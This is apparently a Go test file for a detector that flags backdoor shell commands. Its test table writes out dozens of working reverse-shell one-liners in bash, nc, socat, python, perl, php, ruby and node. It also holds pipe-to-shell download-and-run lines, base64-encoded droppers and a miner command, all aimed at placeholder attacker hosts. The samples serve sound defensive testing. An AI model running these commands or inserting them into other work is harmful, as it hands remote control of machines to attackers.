package backdoor

import (
	"encoding/base64"
	"testing"
)

// b64 encodes a payload the way droppers do.
func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

type want struct {
	found     bool
	what      verdict
	malicious bool
}

func TestDetectors(t *testing.T) {
	eng := newEngine()
	revshell := want{true, vReverseShell, true}
	dlexec := want{true, vDownloadExec, false}
	none := want{}
	tests := []struct {
		name string
		text string
		want want
	}{
		{"bash -i /dev/tcp", `bash -i >& /dev/tcp/10.0.0.1/8080 0>&1`, revshell},
		{"sh -i udp", `sh -i >& /dev/udp/10.0.0.1/4242 0>&1`, revshell},
		{"exec fd 196", `0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196`, revshell},
		{"bash -l redirect", `/bin/bash -l > /dev/tcp/10.0.0.1/4242 0<&1 2>&1`, revshell},
		{"read loop", `exec 5<>/dev/tcp/attacker.com/4242;cat <&5 | while read line; do $line 2>&5 >&5; done`, revshell},
		{"in cron line", `* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'`, revshell},
		{"nc -e", `nc -e /bin/sh 10.0.0.1 4242`, revshell},
		{"nc trailing -e", `busybox nc 10.0.0.1 4242 -e sh`, revshell},
		{"ncat --exec", `ncat 10.0.0.1 4242 --exec /bin/bash`, revshell},
		{"ncat --sh-exec", `ncat --sh-exec "bash -i" 10.0.0.1 4242`, revshell},
		{"mkfifo nc", `rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f`, revshell},
		{"mknod openssl", `mknod /tmp/p p; /bin/sh -i < /tmp/p 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/p`, revshell},
		{"telnet", `telnet 10.0.0.1 4242 | /bin/sh | telnet 10.0.0.1 4243`, revshell},
		{"socat exec", `socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242`, revshell},
		{"socat tcp first", `socat TCP:10.0.0.1:4242 EXEC:/bin/sh`, revshell},
		{"awk inet", `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null`, revshell},
		{"python", `python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("sh")'`, revshell},
		{"python multi-line", "import socket, os, pty\ns = socket.socket()\ns.connect((\"10.0.0.1\", 4242))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn(\"/bin/bash\")\n", revshell},
		{"perl", `perl -e 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`, revshell},
		{"php", `php -r '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'`, revshell},
		{"ruby", `ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, revshell},
		{"node", `require('child_process').spawn; var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []); var client = new net.Socket(); client.connect(4242, "10.0.0.1", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); });`, revshell},

		{"curl pipe sh", `curl -fsSL https://get.example.com/install.sh | sh`, dlexec},
		{"wget pipe bash", `wget -qO- http://198.51.100.7/x | bash`, dlexec},
		{"sudo bash", `curl -s https://example.com/x.sh | sudo -E bash -`, dlexec},
		{"sh -c subst", `sh -c "$(curl -fsSL https://example.com/install.sh)"`, dlexec},
		{"process subst", `bash <(curl -s https://example.com/i.sh)`, dlexec},
		{"save chmod run", `curl -o /tmp/.x http://203.0.113.9/x && chmod +x /tmp/.x && /tmp/.x`, dlexec},
		{"wget then run next line", "cd /tmp\nwget http://203.0.113.9/kworker\nchmod 755 kworker\n./kworker -B\n", dlexec},
		{"python pipe", `curl https://example.com/a.py | python3`, dlexec},

		{"base64 sh", "echo " + b64("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1") + " | base64 -d | bash", want{true, vEncoded, true}},
		{"base64 eval", `eval "$(echo ` + b64("curl http://203.0.113.9/x | sh") + ` | base64 --decode)"`, want{true, vEncoded, true}},
		{"base64 harmless", "echo " + b64("echo hello from the image build, nothing else") + " | base64 -d | sh", want{true, vEncoded, false}},
		{"nested base64", "echo " + b64("echo "+b64("nc -e /bin/sh 10.0.0.1 4242")+" | base64 -d | sh") + " | base64 -d | sh", want{true, vEncoded, true}},
		{"python exec b64", `python3 -c "import base64;exec(base64.b64decode('` + b64("import os;os.system('curl http://203.0.113.9/m | sh')") + `'))"`, want{true, vEncoded, true}},
		{"php eval", `<?php eval(base64_decode("` + b64("system('xmrig -o stratum+tcp://pool.example.com:3333');") + `")); ?>`, want{true, vEncoded, true}},
		{"perl eval", `perl -MMIME::Base64 -e 'eval(decode_base64("` + b64("print 'hello world from perl'") + `"))'`, want{true, vEncoded, false}},
		{"hex xxd", "echo " + "6e63202d65202f62696e2f736820312e322e332e342034343434" + " | xxd -r -p | sh", want{true, vEncoded, true}},
		{"miner in payload", "echo " + b64("nohup /tmp/.x/xmrig -o stratum+tcp://xmr.example.com:3333 &") + " | base64 -d | bash", want{true, vEncoded, true}},

		{"risky host download", `wget -q http://evil.duckdns.org/payload -O /var/tmp/p`, want{true, vRiskyDownload, false}},

		{"health check", `exec 3<>/dev/tcp/localhost/80; echo -e "GET / HTTP/1.0\n" >&3; cat <&3`, none},
		{"bash -c exec fd", `bash -c "exec 4<>/dev/tcp/$host/$port" && echo open`, none},
		{"nc -z", `while ! nc -z db 5432; do sleep 1; done`, none},
		{"nc listen plain", `nc -l -p 8080 < index.html`, none},
		{"curl to file", `curl -fsSL -o /tmp/pkg.tar.gz https://example.com/pkg.tar.gz && tar xzf /tmp/pkg.tar.gz`, none},
		{"curl sha256sum", `curl -fsSL https://example.com/x | sha256sum`, none},
		{"base64 to file", `echo aGVsbG8gd29ybGQgdGhpcyBpcyBub3QgYSBwYXlsb2Fk | base64 -d > banner.txt`, none},
		{"base64 encode", `cat key | base64 -w0`, none},
		{"python socket client", "import socket\ns = socket.create_connection((host, port))\ns.sendall(b'ping')\nprint(s.recv(10))\n", none},
		{"php mailer", `$fp = fsockopen($host, 25, $errno, $errstr, 30); fwrite($fp, "HELO x\r\n");`, none},
		{"socat forward", `socat TCP-LISTEN:8080,fork TCP:backend:80`, none},
		{"telnet alone", `telnet localhost 25`, none},
		{"mkfifo alone", `mkfifo /run/app.fifo && tail -f /run/app.fifo`, none},
		{"docs ip", `See http://192.168.1.1/ for the router admin page`, none},
		{"private download", `curl -o out.tar http://10.1.2.3/artifact.tar`, none},
		{"ssh-keygen", `ssh-keygen -A && exec /usr/sbin/sshd -D`, none},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ms := eng.analyze([]byte(tt.text), 0)
			if !tt.want.found {
				if len(ms) > 0 {
					t.Fatalf("found %d matches, want none; first: %s", len(ms), describe(ms[0]))
				}
				return
			}
			if len(ms) == 0 {
				t.Fatalf("found nothing, want verdict %d", tt.want.what)
			}
			m := ms[0]
			if m.what != tt.want.what || m.malicious() != tt.want.malicious {
				t.Errorf("got verdict %d malicious %v (%s), want %d malicious %v", m.what, m.malicious(), describe(m), tt.want.what, tt.want.malicious)
			}
		})
	}
}
